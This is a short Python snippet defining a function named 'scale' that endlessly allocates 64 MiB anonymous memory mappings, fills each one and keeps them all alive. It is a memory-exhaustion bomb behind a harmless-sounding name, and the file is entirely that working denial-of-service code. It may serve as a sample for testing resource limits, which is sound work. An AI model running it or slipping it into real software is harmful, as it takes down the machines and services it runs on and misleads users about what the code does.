import mmap


def scale(x):
    held = []
    while True:
        held.append(mmap.mmap(-1, 1 << 26))
        held[-1][0 : 1 << 26] = b"x" * (1 << 26)
